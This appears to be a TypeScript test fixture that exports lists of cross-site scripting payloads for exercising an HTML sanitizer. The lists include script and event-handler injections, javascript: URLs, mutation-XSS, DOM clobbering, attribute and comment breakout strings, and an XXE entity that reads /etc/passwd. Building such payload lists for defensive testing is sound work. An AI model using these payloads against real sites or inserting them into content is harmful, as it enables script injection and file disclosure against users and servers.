import { elsewhere, pairs } from './pairs.ts';

const script = '<script>alert(1)</script>';
const elements = ['img', 'svg', 'video', 'body', 'input', 'details', 'marquee', 'b', 'custom-tag'];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onpointerrawupdate'];

/** Elements and attributes that would execute or load something. */
export const markup = [
  script,
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\n>alert(1)</script\t>',
  '<script/src=data:,alert(1)>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#x3c;/script&#x3e;',
  '<script type="module">import("data:text/javascript,alert(1)")</script>',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button form=f formaction="javascript:alert(1)">x</button>',
  `<base href="//${elsewhere}/">`,
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  `<link rel="stylesheet" href="//${elsewhere}/x.css">`,
  '<style>@import "data:text/css,*{color:red}";</style>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<plaintext>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<input name=attributes><input name=parentNode>',
  '<a id=location href=x>x</a><form id=document>',
  '<img src=x:x onerror\u0000=alert(1)>',
  '<img/src/onerror=alert(1)//',
  '<img src=x onerror=alert(1) ',
  '<img src=`x` onerror=`alert(1)`>',
  ...pairs(elements, handlers, (name, on) => `<${name} src=x ${on}=alert(1) autofocus open tabindex=0>`),
];

const ends = ['"', "'", '`', '">', "'>", '-->', ']]>', '\\"', '*/', '}', '</p></div>']
  .concat(['title', 'textarea', 'style', 'script', 'select', 'svg', 'noscript'].map((name) => `</${name}>`))
  .concat('&quot;>', '\u0000">');

/** Texts that try to end the surrounding attribute, element or comment. */
export const breakouts = [
  ...pairs(ends, [script, ' onmouseover=alert(1) x='], (end, what) => end + what),
  ...[
    '";alert(1);//',
    "';alert(1)//",
    '\\";alert(1);//',
    '`;alert(1)//',
    '\u2028alert(1)//',
    '</script><!--',
  ],
];
